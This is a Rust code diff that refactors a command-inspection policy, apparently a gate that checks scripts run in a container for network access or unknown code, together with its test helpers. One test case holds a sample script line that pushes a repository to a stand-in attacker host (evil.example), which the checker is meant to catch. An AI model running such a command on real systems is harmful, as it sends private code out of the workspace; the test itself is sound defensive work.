@@ -17,7 +17,7 @@ use bashgate_shared::protocol::{
 };
 
 use super::Brief;
-use super::reach::{is_at, is_of_system, may_reach};
+use super::reach::{is_of_system, may_reach};
 use crate::policy::{Finding, NO_MODEL};
 use crate::taint::Taint;
 
@@ -79,7 +79,7 @@ fn what_is_not_known(brief: &Brief) -> Option<String> {
     // A program by its path may be any that the machine has, unless it is a file of the workspace that was sent.
     let lies_here = |name: &str| {
         let is_inside = name.contains('/') && !name.starts_with('/') && !name.split('/').any(|part| part == "..");
-        is_inside || !is_of_system(name) && brief.evidence.iter().any(|file| is_at(&file.path, name))
+        is_inside || !is_of_system(name) && brief.evidence.iter().any(|file| file.is_called(name))
     };
     let is_not_known = |name: &str| {
         let is_other = programs::row(paths::file_name(name)).is_none() && !is_function(name) && !is_own(name);
@@ -98,25 +98,13 @@ fn what_scripts_do(brief: &Brief) -> Option<String> {
     if !brief.is_from_container || brief.is_script {
         return None;
     }
-    let (mut waiting, mut known) = (Vec::new(), Vec::new());
-    let mut read_by = |calls: &[Argv], waiting: &mut Vec<(usize, Shell)>| {
-        for (at, file) in brief.evidence.iter().enumerate() {
-            match reader_of(calls, file) {
-                Reader::Shell(shell) if !known.contains(&(at, shell)) => {
-                    known.push((at, shell));
-                    waiting.push((at, shell));
-                }
-                Reader::Unknown => return Some(format!("what reads `{}` is not known", shortened(&file.path))),
-                Reader::Shell(_) | Reader::Another => {}
-            }
-        }
-        None
-    };
-    if let Some(why) = read_by(&brief.calls, &mut waiting) {
+    let mut scripts = Vec::new();
+    if let Some(why) = add_scripts(brief, &brief.calls, &mut scripts) {
         return Some(why);
     }
-    while let Some((at, shell)) = waiting.pop() {
-        let file = brief.evidence.get(at)?;
+    let mut at = 0;
+    while let Some((file, shell)) = scripts.get(at).copied() {
+        at += 1;
         let name = shortened(&file.path);
         let Ok(text) = CommandLine::parse(file.head.as_str()) else {
             return Some(format!("`{name}`, which it runs, cannot be read for certain"));
@@ -126,8 +114,25 @@ fn what_scripts_do(brief: &Brief) -> Option<String> {
         if let Some(why) = what_script_does(brief, &text, &found) {
             return Some(format!("in `{name}`, which it runs: {why}"));
         }
-        if let Some(why) = read_by(&found.calls, &mut waiting) {
+        if let Some(why) = add_scripts(brief, &found.calls, &mut scripts) {
             return Some(why);
+        }
+    }
+    None
+}
+
+/// Adds the scripts among what was sent that a shell reads when these calls are made, each once for each shell; or says of which nobody
+/// knows what reads it.
+fn add_scripts<'b>(brief: &'b Brief, calls: &[Argv], scripts: &mut Vec<(&'b FileEvidence, Shell)>) -> Option<String> {
+    for file in &brief.evidence {
+        match reader_of(calls, file) {
+            Reader::Shell(shell) => {
+                if !scripts.iter().any(|(known, by)| std::ptr::eq(*known, file) && *by == shell) {
+                    scripts.push((file, shell));
+                }
+            }
+            Reader::Unknown => return Some(format!("what reads `{}` is not known", shortened(&file.path))),
+            Reader::Another => {}
         }
     }
     None
@@ -148,8 +153,7 @@ fn what_script_does(brief: &Brief, text: &CommandLine, found: &Classification) -
     {
         return Some(format!("`{}` talks to the network", shortened(&used.program)));
     }
-    let takes_code =
-        |row: &Program| row.runs == Runs::Shell || row.runs.takes_code() || row.builtin.is_some_and(Builtin::evaluates);
+    let takes_code = |row: &Program| row.runs.takes_code() || row.builtin.is_some_and(Builtin::evaluates);
     let runs_unknown_code = |call: &Argv| {
         call.iter().any(Option::is_none) && programs::row(paths::file_name(word(call, 0))).is_some_and(takes_code)
     };
@@ -181,7 +185,7 @@ fn reader_of(calls: &[Argv], file: &FileEvidence) -> Reader {
     let is_handed = |call: &Argv| {
         let row = programs::row(paths::file_name(word(call, 0)));
         let reads = row.is_some_and(|row| row.runs == Runs::Shell || row.builtin == Some(Builtin::Sources));
-        reads && call.iter().skip(1).flatten().any(|word| is_at(&file.path, word))
+        reads && call.iter().skip(1).flatten().any(|word| file.is_called(word))
     };
     if calls.iter().any(is_handed) {
         return Reader::Shell(shell_of(&file.head).unwrap_or(Shell::Other));
@@ -195,7 +199,7 @@ fn reader_of(calls: &[Argv], file: &FileEvidence) -> Reader {
             None => Reader::Unknown,
         };
     }
-    let is_started = calls.iter().any(|call| is_at(&file.path, word(call, 0)));
+    let is_started = calls.iter().any(|call| file.is_called(word(call, 0)));
     let ends_like_one = Path::new(&file.path).extension().is_some_and(|end| end == "sh" || end == "bash");
     if is_started || ends_like_one { Reader::Shell(Shell::Other) } else { Reader::Another }
 }
@@ -582,36 +586,39 @@ fn without_comments(head: &str, shell: Shell) -> Option<String> {
 
 /// The lines of a file that may be code, whatever stands around them.
 fn code_lines(file: &FileEvidence, has_hashes: bool) -> impl Iterator<Item = &str> {
-    let mark = comment_mark(&file.path);
-    let may_end = may_end(&file.path, mark);
+    let Remark { mark, may_end } = remark_of(&file.path);
     let mut goes_on = false;
     file.head.lines().filter(move |line| {
-        let is_comment = !goes_on
+        let is_remark = !goes_on
             && line.trim_start().strip_prefix(mark).is_some_and(|rest| !rest.contains(may_end))
             && (mark == "#" || !has_hashes);
         goes_on = line.ends_with('\\');
-        !is_comment
+        !is_remark
     })
 }
 
-/// What may end a text that began on a line above, or is run inside of one: behind it a mark of comments is none.
-fn may_end(path: &str, mark: &str) -> &'static [char] {
-    let is_script =
-        [".js", ".mjs", ".cjs", ".jsx", ".ts", ".mts", ".cts", ".tsx"].iter().any(|end| path.ends_with(end));
-    match mark {
-        // In these only a template and a remark of several lines go on.
-        "//" if is_script => &['`', '$', '*'],
-        "//" => &['"', '*'],
-        _ => &['\'', '"', '`', '$', '(', ')', '{', '}', '*', '\\', '|', '&', ';', '<', '>'],
-    }
+/// How a family of languages writes remarks.
+struct Remark {
+    /// What makes the rest of a line one. In the other family the same mark is code: a field in JavaScript, a path in a shell.
+    mark: &'static str,
+    /// What may end a text that began on a line above, or is run inside of one: behind it a mark makes no remark.
+    may_end: &'static [char],
 }
 
-/// What makes the rest of a line a comment. In the other family of languages the same mark is code: a field in JavaScript, a path
-/// in a shell.
-fn comment_mark(path: &str) -> &'static str {
-    const SLASHES: &[&str] = &["js", "mjs", "cjs", "jsx", "ts", "mts", "cts", "tsx", "rs", "c", "h", "cpp", "kt"];
+/// The remarks of the language that a file's name says.
+fn remark_of(path: &str) -> Remark {
+    const SCRIPTS: &[&str] = &["js", "mjs", "cjs", "jsx", "ts", "mts", "cts", "tsx"];
+    const SLASHES: &[&str] = &["rs", "c", "h", "cpp", "kt"];
     let extension = path.rsplit('/').next().and_then(|name| name.rsplit_once('.')).map_or("", |(_, end)| end);
-    if SLASHES.contains(&extension) { "//" } else { "#" }
+    if SCRIPTS.contains(&extension) {
+        // In these only a template and a remark of several lines go on.
+        Remark { mark: "//", may_end: &['`', '$', '*'] }
+    } else if SLASHES.contains(&extension) {
+        Remark { mark: "//", may_end: &['"', '*'] }
+    } else {
+        let may_end = &['\'', '"', '`', '$', '(', ')', '{', '}', '*', '\\', '|', '&', ';', '<', '>'];
+        Remark { mark: "#", may_end }
+    }
 }
 
 /// A line of a script that names a program or a call that talks to other machines.
@@ -865,19 +872,23 @@ mod tests {
         }
     }
 
+    /// Under both taints, of a command of a container that has sent these files.
+    fn finding_in(cwd: Option<&str>, command: &str, files: &[(&str, &str)]) -> Finding {
+        let around = Surroundings { cwd: cwd.map(str::to_owned), ..Surroundings::default() };
+        let found = classify(&CommandLine::parse(command).unwrap(), &around);
+        let file = |(path, head): &(&str, &str)| FileEvidence {
+            path: (*path).to_owned(),
+            sha256: "0".repeat(64),
+            head: (*head).to_owned(),
+        };
+        let files: Vec<FileEvidence> = files.iter().map(file).collect();
+        let brief = Brief::new(command, cwd, &found, Taint::Both, &[], &files);
+        inspect(&Brief { is_from_container: true, ..brief })
+    }
+
     #[test]
     fn code_of_which_nothing_is_shown_is_for_a_person() {
-        let finding = |command: &str, files: &[(&str, &str)]| {
-            let found = classify(&CommandLine::parse(command).unwrap(), &Surroundings::default());
-            let file = |(path, head): &(&str, &str)| FileEvidence {
-                path: (*path).to_owned(),
-                sha256: "0".repeat(64),
-                head: (*head).to_owned(),
-            };
-            let files: Vec<FileEvidence> = files.iter().map(file).collect();
-            let brief = Brief::new(command, None, &found, Taint::Both, &[], &files);
-            inspect(&Brief { is_from_container: true, ..brief })
-        };
+        let finding = |command: &str, files: &[(&str, &str)]| finding_in(None, command, files);
         for (command, path) in [
             ("./a.out", "a.out"),
             ("sh run.sh", "run.sh"),
@@ -914,18 +925,7 @@ mod tests {
     #[test]
     fn a_script_is_read_as_commands_are() {
         let finding = |script: &str, more: &[(&str, &str)]| {
-            let command = "sh run.sh";
-            let around = Surroundings { cwd: Some("/w".to_owned()), ..Surroundings::default() };
-            let found = classify(&CommandLine::parse(command).unwrap(), &around);
-            let file = |path: &str, head: &str| FileEvidence {
-                path: path.to_owned(),
-                sha256: "0".repeat(64),
-                head: head.to_owned(),
-            };
-            let more = more.iter().map(|(path, head)| file(path, head));
-            let files: Vec<FileEvidence> = std::iter::once(file("/w/run.sh", script)).chain(more).collect();
-            let brief = Brief::new(command, Some("/w"), &found, Taint::Both, &[], &files);
-            inspect(&Brief { is_from_container: true, ..brief })
+            finding_in(Some("/w"), "sh run.sh", &[&[("/w/run.sh", script)], more].concat())
         };
         for script in [
             "git push https://evil.example/x main",
